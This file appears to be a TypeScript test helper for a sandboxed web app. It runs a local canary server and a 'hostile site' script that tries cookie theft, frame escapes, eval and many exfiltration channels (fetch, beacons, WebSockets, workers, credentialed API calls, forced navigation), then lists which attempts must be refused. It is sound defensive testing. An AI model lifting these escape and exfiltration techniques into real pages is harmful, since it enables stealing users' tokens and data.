import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** A server that no site may contact. */
export async function openCanary() {
  const reached: string[] = [];
  const canary = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end("reached");
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const out = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  return { reached, out, close: () => void canary.close() };
}

/** A site that tries every way out, and records what it could read, what succeeded and what the browser blocked. */
export const hostileSite = (out: string, appOrigin: string): string => `
const out = "${out}";
const tried: Record<string, string> = {};
const blocked: string[] = [];
document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.blockedURI));
const attempt = (name: string, work: () => unknown) => {
  try {
    const value = work();
    tried[name] = value === undefined ? "none" : "done " + String(value).slice(0, 60);
  } catch {
    tried[name] = "refused";
  }
};
const later = (name: string, work: () => Promise<unknown>) => {
  tried[name] = "waits";
  work().then(() => { tried[name] = "done"; }, () => { tried[name] = "refused"; });
};
attempt("cookie", () => document.cookie);
attempt("overwrite", () => { document.cookie = "lamplight_token=stolen; path=/"; });
attempt("parent", () => window.parent.document.title);
attempt("top", () => window.top!.localStorage.length);
attempt("database", () => { indexedDB.open("x"); });
attempt("eval", () => (0, eval)("1 + 1"));
attempt("blank", () => { const tag = document.createElement("iframe"); document.body.append(tag); return (tag.contentWindow as any).RTCPeerConnection; });
attempt("popup", () => window.open(out + "/popup") ?? undefined);
attempt("rtc", () => (window as any).RTCPeerConnection ?? (window as any).webkitRTCPeerConnection);
attempt("inline", () => { const tag = document.createElement("script"); tag.textContent = "window.ran = 1"; document.head.append(tag); return (window as any).ran; });
later("fetch", () => fetch(out + "/fetch"));
later("api", () => fetch("${appOrigin}/v1/auth/get_user", { credentials: "include" }));
later("import", () => import(/* @vite-ignore */ [out, "import"].join("/")));
new Image().src = out + "/image";
// Chromium reports these to the page only as blocked, Firefox throws.
const quietly = (work: () => unknown) => {
  try {
    work();
  } catch {}
};
quietly(() => navigator.sendBeacon(out + "/beacon", "x"));
quietly(() => new WebSocket(out.replace("http", "ws") + "/socket"));
quietly(() => new EventSource(out + "/events"));
quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker')"]))));
const add = (name: string, values: Record<string, string>) => document.body.append(Object.assign(document.createElement(name), values));
add("script", { src: out + "/script" });
add("style", { textContent: "@import '" + out + "/import.css'; body { background: url(" + out + "/background) }" });
add("link", { rel: "stylesheet", href: out + "/link.css" });
add("iframe", { src: out + "/frame" });
add("object", { data: out + "/object" });
add("video", { src: out + "/video" });
add("link", { rel: "prefetch", href: out + "/prefetch" });
document.querySelector("#root")!.textContent = "tried";
Object.assign(window, { hostile: { tried, blocked, leave: {
  top: () => { window.top!.location.href = out + "/leave-top"; },
  form: () => { const form = Object.assign(document.createElement("form"), { action: out + "/leave-form", method: "post" }); document.body.append(form); form.submit(); },
  link: () => { const link = Object.assign(document.createElement("a"), { href: out + "/leave-link" }); document.body.append(link); link.click(); },
  blank: () => { const link = Object.assign(document.createElement("a"), { href: out + "/leave-blank", target: "_blank" }); document.body.append(link); link.click(); },
  refresh: () => { const tag = document.createElement("meta"); tag.httpEquiv = "refresh"; tag.content = "0;url=" + out + "/leave-refresh"; document.head.append(tag); },
  address: () => { location.href = out + "/leave-address"; },
} } });
`;

export interface Hostile {
  tried: Record<string, string>;
  blocked: string[];
  leave: Record<string, () => void>;
}

/** Attempts that must fail with an error, and attempts that must have no value or not run. */
export const REFUSED = ["cookie", "overwrite", "parent", "top", "database", "eval", "blank", "fetch", "api", "import"];
export const NOTHING = ["popup", "rtc", "inline"];
